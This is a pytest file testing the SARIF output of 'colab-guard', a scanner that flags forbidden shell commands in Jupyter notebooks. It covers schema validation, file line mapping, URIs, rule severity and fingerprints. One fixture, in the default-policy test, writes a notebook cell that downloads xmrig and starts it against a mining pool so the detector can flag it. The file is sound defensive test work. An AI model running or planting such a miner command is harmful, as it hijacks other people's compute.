"""`colab-guard check --format sarif`, validated against the official SARIF 2.1.0 schema
(tests/schemas/, see its README) and checked for what GitHub code scanning reads: findings
of notebooks on the line of the .ipynb file, URIs relative to %SRCROOT%, rule help and
security severity, stable partial fingerprints."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import quote

import jsonschema
import pytest

from jupyter_colab_guard.cli import (
    DEFAULT_FAQ_URL,
    FINGERPRINT,
    SARIF_SCHEMA,
    main,
    notebook_cells,
)

SCHEMA_PATH = Path(__file__).resolve().parents[1] / "schemas" / "sarif-schema-2.1.0.json"
SCHEMA_SHA256 = "c3b4bb2d6093897483348925aaa73af03b3e3f4bd4ca38cef26dcb4212a2682e"

POLICY = """\
version: 1
name: sarif-test
categories:
  - id: forbidden_tools
    title: Running forbidden tools
    description: The forbidden tool must not run here.
    action: block
    severity: critical
  - id: sketchy_text
    title: Sketchy text
    description: Sketchy tokens are discouraged.
    action: warn
    severity: medium
  - id: audited
    title: Audited modules
    description: Importing the audited module is only logged.
    action: log
    severity: low
  - id: loud
    title: Loud programs
    description: Loud programs disturb the neighbours.
    action: block
    severity: high
    metadata:
      faq: https://example.org/faq#loud
rules:
  - id: forbidden-tool-shell
    category: forbidden_tools
    message: Runs the forbidden tool.
    match:
      shell:
        program: [forbidden-tool]
    examples:
      match: ["!forbidden-tool --go"]
      no_match: ["print('forbidden-tool is a name')"]
  - id: sketchy-token
    category: sketchy_text
    message: Holds a sketchy token.
    match:
      string: 'sketchy-token-\\d+'
    examples:
      match: ['x = "sketchy-token-42"']
      no_match: ['x = "harmless"']
  - id: audit-import
    category: audited
    message: Imports the audited module.
    match:
      import: auditmod
    examples:
      match: ["import auditmod"]
      no_match: ["import os"]
  - id: loud-shell
    category: loud
    message: Runs a loud program.
    match:
      shell:
        program: [loud-horn]
    examples:
      match: ["!loud-horn"]
      no_match: ["print('loud-horn')"]
"""


# -- helpers ---------------------------------------------------------------------------
def code(source: str | list[str]) -> dict[str, Any]:
    lines = source if isinstance(source, list) else source.splitlines(keepends=True)
    return {
        "cell_type": "code",
        "metadata": {},
        "execution_count": None,
        "source": lines,
        "outputs": [],
    }


def markdown(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source.splitlines(keepends=True)}


def write_notebook(path: Path, *cells: dict[str, Any]) -> str:
    """As Jupyter writes it (nbformat: indent 1, non-ASCII kept, newline at the end)."""
    data = {
        "cells": list(cells),
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    text = json.dumps(data, indent=1, ensure_ascii=False) + "\n"
    path.write_text(text, encoding="utf-8")
    return text


@pytest.fixture(autouse=True)
def in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # relative paths given to the command are in tmp_path


@pytest.fixture
def policy(tmp_path: Path) -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def validator() -> jsonschema.Draft4Validator:
    import hashlib

    raw = SCHEMA_PATH.read_bytes()
    assert hashlib.sha256(raw).hexdigest() == SCHEMA_SHA256, "the vendored schema was changed"
    schema = json.loads(raw)
    assert schema["id"] == SARIF_SCHEMA  # the official OASIS 2.1.0 (errata01) schema
    jsonschema.Draft4Validator.check_schema(schema)
    checker = jsonschema.FormatChecker()
    # without these the formats would pass unchecked
    assert {"uri", "uri-reference", "date-time"} <= set(checker.checkers)
    return jsonschema.Draft4Validator(schema, format_checker=checker)


def assert_valid(validator: jsonschema.Draft4Validator, sarif: dict[str, Any]) -> None:
    problems = sorted(validator.iter_errors(sarif), key=lambda e: list(e.absolute_path))
    assert not problems, "\n".join(
        f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in problems[:10]
    )


def sarif_of(
    tmp_path: Path, policy: Path, *args: str, cwd: Path | None = None
) -> tuple[int, dict[str, Any]]:
    """`colab-guard check --format sarif` in this process, the report written to a file."""
    out = tmp_path / "out" / "report.sarif"
    root = str(cwd or tmp_path)
    options = ["--format", "sarif", "--jobs", "1", "--output", str(out), "--root", root]
    status = main(["check", "--policy", str(policy), *options, *args])
    return status, json.loads(out.read_text(encoding="utf-8"))


def results_by_rule(sarif: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    out: dict[str, list[dict[str, Any]]] = {}
    for result in sarif["runs"][0]["results"]:
        out.setdefault(result["ruleId"], []).append(result)
    return out


def region(result: dict[str, Any]) -> tuple[int, int]:
    found = result["locations"][0]["physicalLocation"]["region"]
    return found["startLine"], found["startColumn"]


def uri(result: dict[str, Any]) -> dict[str, str]:
    return result["locations"][0]["physicalLocation"]["artifactLocation"]


def assert_points_at(file_text: str, result: dict[str, Any], cell_source: str) -> None:
    """The result's file line and column hold, JSON-encoded, the cell's text from the
    finding's line and column in the cell on (checked on the file's own text)."""
    line, column = region(result)
    props = result["properties"]
    cell_line = cell_source.split("\n")[props["cellLine"] - 1]
    rest = cell_line[props["cellColumn"] - 1 :]
    encoded = json.dumps(rest, ensure_ascii=False)[1:-1]
    file_line = file_text.split("\n")[line - 1]
    assert file_line[column - 1 :].startswith(encoded), (file_line, column, encoded)


# -- the schema ----------------------------------------------------------------------------
def test_the_vendored_schema_rejects_what_is_not_sarif(
    validator: jsonschema.Draft4Validator,
) -> None:
    good = {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": []}]}
    assert not list(validator.iter_errors(good))
    for bad in (
        {"version": "2.0.0", "runs": []},
        {"version": "2.1.0", "runs": [{"tool": {"driver": {}}}]},  # driver without a name
        {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x", "helpUri": "::"}}}]},
        {
            "version": "2.1.0",
            "runs": [
                {
                    "tool": {"driver": {"name": "x"}},
                    "results": [{"message": {"text": "m"}, "level": "fatal"}],
                }
            ],
        },
    ):
        assert list(validator.iter_errors(bad)), bad


def test_full_report_is_valid_sarif(
    tmp_path: Path, policy: Path, validator: jsonschema.Draft4Validator
) -> None:
    root = tmp_path / "repo"
    (root / "nbs").mkdir(parents=True)
    write_notebook(
        root / "nbs" / "a notebook.ipynb",
        markdown("# Title\n!forbidden-tool in prose"),
        code("import os\n!forbidden-tool --go\nx = 'sketchy-token-1'\n"),
        code("import auditmod\n!loud-horn\n"),
    )
    (root / "run.sh").write_text("echo hi\nforbidden-tool\n", encoding="utf-8")
    (root / "mod.py").write_text("\nx = 'sketchy-token-2'\n", encoding="utf-8")
    (root / "broken.ipynb").write_text("{not json", encoding="utf-8")
    status, sarif = sarif_of(tmp_path, policy, "repo", cwd=tmp_path)
    assert status == 1
    assert_valid(validator, sarif)
    assert sarif["$schema"] == SARIF_SCHEMA and sarif["version"] == "2.1.0"
    (run,) = sarif["runs"]
    assert {r["ruleId"] for r in run["results"]} == {
        "forbidden-tool-shell",
        "sketchy-token",
        "audit-import",
        "loud-shell",
    }
    # the unreadable file is an error notification, with its location
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is False
    (note,) = invocation["toolExecutionNotifications"]
    assert note["level"] == "error" and "broken.ipynb" in note["message"]["text"]
    assert note["locations"][0]["physicalLocation"]["artifactLocation"] == {
        "uri": "repo/broken.ipynb",
        "uriBaseId": "%SRCROOT%",
    }
    # results refer to their rules by index as well as id
    rules = run["tool"]["driver"]["rules"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]


# -- notebooks: the line of the file --------------------------------------------------------
def test_notebook_finding_lands_on_the_line_of_the_file(
    tmp_path: Path, policy: Path, validator: jsonschema.Draft4Validator
) -> None:
    first = "print('first cell')\n"
    third = (
        'import os\nprint("tab\\there é 😀 \\"q\\""); x = \'sketchy-token-12\'\n'
        "!forbidden-tool --go\n"
    )
    text = write_notebook(
        tmp_path / "nb.ipynb",
        code(first),
        markdown("Some prose\n!forbidden-tool is not run here"),
        code(third),
    )
    status, sarif = sarif_of(tmp_path, policy, "nb.ipynb")
    assert status == 1
    assert_valid(validator, sarif)
    found = results_by_rule(sarif)
    (tool,) = found["forbidden-tool-shell"]
    (token,) = found["sketchy-token"]
    lines = text.split("\n")
    # the file lines, found independently: the JSON strings of those source lines
    tool_line = lines.index('    "!forbidden-tool --go\\n"') + 1
    token_line = next(i for i, ln in enumerate(lines, 1) if "sketchy-token-12" in ln)
    assert region(tool)[0] == tool_line
    assert region(token)[0] == token_line
    assert tool_line > 15  # well below the cell's own line numbers
    # the cell and the line in the cell are kept as properties
    assert (tool["properties"]["cell"], tool["properties"]["cellLine"]) == (2, 3)
    assert (token["properties"]["cell"], token["properties"]["cellLine"]) == (2, 2)
    assert "(cell 2, line 3)" in tool["message"]["text"]
    # and the column points into the JSON string, past its escapes
    assert_points_at(text, tool, third)
    assert_points_at(text, token, third)
    assert token["properties"]["cellColumn"] > 1


def test_notebook_with_a_single_string_source_and_crlf(
    tmp_path: Path, policy: Path, validator: jsonschema.Draft4Validator
) -> None:
    # nbformat also allows one string per cell; a file may have Windows line ends
    source = "import os\n\n!forbidden-tool --go"
    data = {
        "cells": [code("x = 1\n"), {**code(""), "source": source}],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    text = json.dumps(data, indent=2).replace("\n", "\r\n")
    (tmp_path / "one.ipynb").write_text(text, encoding="utf-8", newline="")
    status, sarif = sarif_of(tmp_path, policy, "one.ipynb")
    assert status == 1
    assert_valid(validator, sarif)
    (tool,) = results_by_rule(sarif)["forbidden-tool-shell"]
    lines = text.split("\r\n")
    expected = next(i for i, ln in enumerate(lines, 1) if '"source": "import os' in ln)
    assert region(tool)[0] == expected
    assert tool["properties"]["cellLine"] == 3
    assert_points_at(text.replace("\r\n", "\n"), tool, source)


def test_minified_notebook_is_line_1(tmp_path: Path, policy: Path) -> None:
    (tmp_path / "min.ipynb").write_text(
        json.dumps({"cells": [code("x = 1\n\n!forbidden-tool\n")], "nbformat": 4}),
        encoding="utf-8",
    )
    _, sarif = sarif_of(tmp_path, policy, "min.ipynb")
    (tool,) = results_by_rule(sarif)["forbidden-tool-shell"]
    assert region(tool)[0] == 1
    assert tool["properties"]["cellLine"] == 3


@pytest.mark.parametrize(
    "text",
    [
        '{"cells": [{"cell_type": "code", "source": ["a\\n", "b"]}]}',
        '{ "cells" :[ {"source":"x\\u00e9\\ud83d\\ude00","cell_type":"code"} , 3 ] } ',
        '{"cells": [], "cells": [{"cell_type": "code", "source": ["last wins"]}]}',
        '{"metadata": {"cells": [1]}, "cells": [{"cell_type": "raw", "source": "no"},'
        ' {"cell_type": "code", "source": ["\\"q\\"", "\\t"], "outputs": [{"a": [1, {}]}]}]}',
        '{"cells": [{"cell_type": "code", "source": 12}]}',
    ],
)
def test_notebook_reader_agrees_with_json_loads(text: str) -> None:
    data = json.loads(text)
    expected = []
    for index, cell in enumerate(data["cells"]):
        if isinstance(cell, dict) and cell.get("cell_type") == "code":
            source = cell.get("source", "")
            expected.append((index, "".join(source) if isinstance(source, list) else str(source)))
    assert notebook_cells(text) == expected


@pytest.mark.parametrize(
    "text", ["{not json", '{"hello": 1}', "[1]", '{"cells": []} extra', '{"cells": 3}']
)
def test_notebook_reader_rejects_what_is_not_a_notebook(text: str) -> None:
    with pytest.raises(ValueError):
        notebook_cells(text)


# -- URIs ------------------------------------------------------------------------------------
def test_uris_are_relative_to_the_root(tmp_path: Path, policy: Path) -> None:
    root = tmp_path / "repo"
    (root / "sub dir").mkdir(parents=True)
    (root / "sub dir" / "a.py").write_text("x = 'sketchy-token-1'\n", encoding="utf-8")
    outside = tmp_path / "elsewhere.py"
    outside.write_text("x = 'sketchy-token-2'\n", encoding="utf-8")
    _, sarif = sarif_of(
        tmp_path, policy, str(root / "sub dir"), str(outside), "repo/sub dir/a.py", cwd=root
    )
    (run,) = sarif["runs"]
    assert run["originalUriBaseIds"] == {"%SRCROOT%": {"uri": root.as_uri() + "/"}}
    got = [uri(r) for r in run["results"]]
    inside = {"uri": "sub%20dir/a.py", "uriBaseId": "%SRCROOT%"}
    # absolute and relative (to the current folder) paths name the same file
    assert got == [inside, {"uri": outside.as_uri()}, inside]


def test_default_root_is_the_current_folder(tmp_path: Path, policy: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "m.py").write_text("x = 'sketchy-token-1'\n", encoding="utf-8")
    out = tmp_path / "r.sarif"
    proc = subprocess.run(
        [
            *(sys.executable, "-m", "jupyter_colab_guard.cli", "check"),
            *("--policy", str(policy), "--format", "sarif", "-o", str(out), "src"),
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout == ""  # --output: nothing on stdout
    sarif = json.loads(out.read_text(encoding="utf-8"))
    (result,) = sarif["runs"][0]["results"]
    assert uri(result) == {"uri": "src/m.py", "uriBaseId": "%SRCROOT%"}
    assert sarif["runs"][0]["originalUriBaseIds"]["%SRCROOT%"]["uri"] == tmp_path.as_uri() + "/"


# -- rules ----------------------------------------------------------------------------------
def test_rules_carry_help_severity_and_tags(
    tmp_path: Path, policy: Path, validator: jsonschema.Draft4Validator
) -> None:
    write_notebook(
        tmp_path / "nb.ipynb",
        code("import auditmod\n!forbidden-tool\n!loud-horn\nx = 'sketchy-token-3'\n"),
    )
    faq = "https://jupyter.example.edu/hub/colab-guard/faq"
    _, sarif = sarif_of(tmp_path, policy, "--faq-url", faq, "nb.ipynb")
    assert_valid(validator, sarif)
    rules = {r["id"]: r for r in sarif["runs"][0]["tool"]["driver"]["rules"]}
    expected = {
        "forbidden-tool-shell": ("forbidden_tools", "critical", "error"),
        "loud-shell": ("loud", "high", "error"),
        "sketchy-token": ("sketchy_text", "medium", "warning"),
        "audit-import": ("audited", "low", "note"),
    }
    assert set(rules) == set(expected)
    severities = {}
    for rule_id, (category, severity, level) in expected.items():
        rule = rules[rule_id]
        assert rule["helpUri"] == f"{faq}#{category}"
        assert rule["shortDescription"]["text"]
        assert rule["fullDescription"]["text"] != rule["shortDescription"]["text"]
        assert rule["help"]["text"] and rule["help"]["markdown"]
        assert f"({faq}#{category})" in rule["help"]["markdown"]
        assert rule["defaultConfiguration"]["level"] == level
        props = rule["properties"]
        assert {"security", category} <= set(props["tags"])
        score = float(props["security-severity"])  # GitHub reads a number in a string
        assert isinstance(props["security-severity"], str) and 0.0 < score <= 10.0
        severities[severity] = score
    # GitHub's bands: critical >= 9.0, high 7.0-8.9, medium 4.0-6.9, low 0.1-3.9
    assert severities["critical"] >= 9.0
    assert 7.0 <= severities["high"] < 9.0
    assert 4.0 <= severities["medium"] < 7.0
    assert 0.0 < severities["low"] < 4.0
    descriptions = rules["forbidden-tool-shell"]
    assert "The forbidden tool must not run here." in descriptions["fullDescription"]["text"]
    assert "forbidden-tool" in descriptions["help"]["text"]  # what the rule matches
    assert "https://example.org/faq#loud" in rules["loud-shell"]["help"]["markdown"]


def test_default_faq_url(tmp_path: Path, policy: Path) -> None:
    (tmp_path / "a.py").write_text("x = 'sketchy-token-3'\n", encoding="utf-8")
    _, sarif = sarif_of(tmp_path, policy, "a.py")
    (rule,) = sarif["runs"][0]["tool"]["driver"]["rules"]
    assert rule["helpUri"] == f"{DEFAULT_FAQ_URL}#sketchy_text"
    assert DEFAULT_FAQ_URL.endswith("/colab-guard/faq")


def test_default_policy_report_is_valid(
    tmp_path: Path, validator: jsonschema.Draft4Validator
) -> None:
    write_notebook(
        tmp_path / "miner.ipynb",
        code(
            "!wget https://example.org/xmrig.tar.gz\n!nohup ./xmrig -o stratum+tcp://pool:3333 &\n"
        ),
    )
    out = tmp_path / "r.sarif"
    options = ["--format", "sarif", "--jobs", "1", "-o", str(out), "--root", str(tmp_path)]
    status = main(["check", *options, str(tmp_path / "miner.ipynb")])
    assert status == 1
    sarif = json.loads(out.read_text(encoding="utf-8"))
    assert_valid(validator, sarif)
    for rule in sarif["runs"][0]["tool"]["driver"]["rules"]:
        category = rule["properties"]["category"]
        assert rule["helpUri"] == f"{DEFAULT_FAQ_URL}#{quote(category)}"


def test_help_uri_anchors_exist_on_the_servers_faq_page(tmp_path: Path, policy: Path) -> None:
    from jupyter_colab_guard.policy import load_policy
    from jupyter_colab_guard.server.console import faq_page

    write_notebook(tmp_path / "nb.ipynb", code("import auditmod\n!forbidden-tool\n!loud-horn\n"))
    _, sarif = sarif_of(tmp_path, policy, "nb.ipynb")
    page = faq_page(load_policy(str(policy)), "Service")
    rules = sarif["runs"][0]["tool"]["driver"]["rules"]
    assert len(rules) == 3
    for rule in rules:
        base, _, fragment = rule["helpUri"].partition("#")
        assert base == DEFAULT_FAQ_URL and fragment
        assert f"id='{fragment}'" in page  # the section the link lands on


# -- fingerprints ---------------------------------------------------------------------------
def fingerprints(sarif: dict[str, Any]) -> dict[tuple[str, int], str]:
    return {
        (r["ruleId"], region(r)[0]): r["partialFingerprints"][FINGERPRINT]
        for r in sarif["runs"][0]["results"]
    }


def test_fingerprints_survive_moved_lines(tmp_path: Path, policy: Path) -> None:
    path = tmp_path / "m.py"
    path.write_text("x = 'sketchy-token-1'\nimport auditmod\n", encoding="utf-8")
    _, before = sarif_of(tmp_path, policy, "m.py")
    path.write_text(
        "import os\n\n\nx   =   'sketchy-token-1'\n\nimport auditmod\n", encoding="utf-8"
    )
    _, after = sarif_of(tmp_path, policy, "m.py")
    old, new = fingerprints(before), fingerprints(after)
    assert list(old) == [("sketchy-token", 1), ("audit-import", 2)]
    assert list(new) == [("sketchy-token", 4), ("audit-import", 6)]
    # same lines (whitespace aside) keep their fingerprints at their new line numbers
    assert list(old.values()) == list(new.values())
    assert len(set(old.values())) == 2
    # a notebook: the same line moved to another cell and line keeps it too
    nb = tmp_path / "nb.ipynb"
    write_notebook(nb, code("!forbidden-tool --go\n"))
    _, one = sarif_of(tmp_path, policy, "nb.ipynb")
    write_notebook(
        nb, markdown("intro"), code("x = 1\n"), code("import os\n!forbidden-tool --go\n")
    )
    _, two = sarif_of(tmp_path, policy, "nb.ipynb")
    assert list(fingerprints(one)) != list(fingerprints(two))  # another line of the file
    assert list(fingerprints(one).values()) == list(fingerprints(two).values())


def test_fingerprints_differ_by_rule_file_and_occurrence(tmp_path: Path, policy: Path) -> None:
    for name in ("a.ipynb", "b.ipynb"):  # the same line in two cells of two notebooks
        write_notebook(
            tmp_path / name, code("x = 'sketchy-token-1'\n"), code("x = 'sketchy-token-1'")
        )
    (tmp_path / "c.py").write_text("import auditmod; x = 'sketchy-token-1'\n", encoding="utf-8")
    _, sarif = sarif_of(tmp_path, policy, "a.ipynb", "b.ipynb", "c.py")
    got = [
        (uri(r)["uri"], r["ruleId"], r["partialFingerprints"][FINGERPRINT])
        for r in sarif["runs"][0]["results"]
    ]
    assert [(u, rule) for u, rule, _ in got[:4]] == [
        ("a.ipynb", "sketchy-token"),
        ("a.ipynb", "sketchy-token"),
        ("b.ipynb", "sketchy-token"),
        ("b.ipynb", "sketchy-token"),
    ]
    assert sorted((u, rule) for u, rule, _ in got[4:]) == [
        ("c.py", "audit-import"),
        ("c.py", "sketchy-token"),
    ]
    prints = [fp for _, _, fp in got]
    assert len(set(prints)) == len(prints)
    hashes = [fp.split(":")[0] for fp in prints]
    numbers = [fp.split(":")[1] for fp in prints]
    # equal lines in one file: one hash, numbered occurrences
    assert hashes[0] == hashes[1] and numbers[:2] == ["1", "2"]
    assert hashes[2] == hashes[3] and numbers[2:4] == ["1", "2"]
    assert hashes[0] != hashes[2]  # another file
    assert len(set(hashes[4:])) == 2 and hashes[4] not in hashes[:4]  # another rule
